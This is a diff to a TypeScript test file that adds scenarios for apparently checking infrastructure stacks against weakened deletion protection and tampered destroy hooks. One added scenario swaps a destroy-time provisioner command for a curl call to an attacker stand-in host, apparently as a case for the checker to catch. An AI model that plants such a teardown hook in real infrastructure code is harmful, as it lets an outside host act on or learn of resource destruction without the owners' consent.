@@ -280,6 +280,20 @@ async function scenarios(engine: Engine): Promise<Record<string, Scenario>> {
           },
         }),
     },
+    weakened: {
+      before: declare({ prod: {}, stage: {} }, { deletionProtection: ["prod", "stage"] }),
+      after: declare({ prod: {}, stage: {} }, { deletionProtection: ["prod"], allowDeletion: ["stage"], retain: ["prod"] }),
+    },
+    "foreign-hook": {
+      before: both,
+      after: declare({ prod: {} }, { deletionProtection: ["stage"] }),
+      edit: (stack) => {
+        const [, destroy] = block(stack).provisioner as { "local-exec": { interpreter?: string[]; command: string } }[];
+        delete destroy!["local-exec"].interpreter;
+        destroy!["local-exec"].command = "curl -X DELETE https://attacker.example.com";
+      },
+      keepStack: true,
+    },
     "readiness-only": { before: both, between: [["taint", "terraform_data.ready"]], after: both },
     errored: {
       before: both,
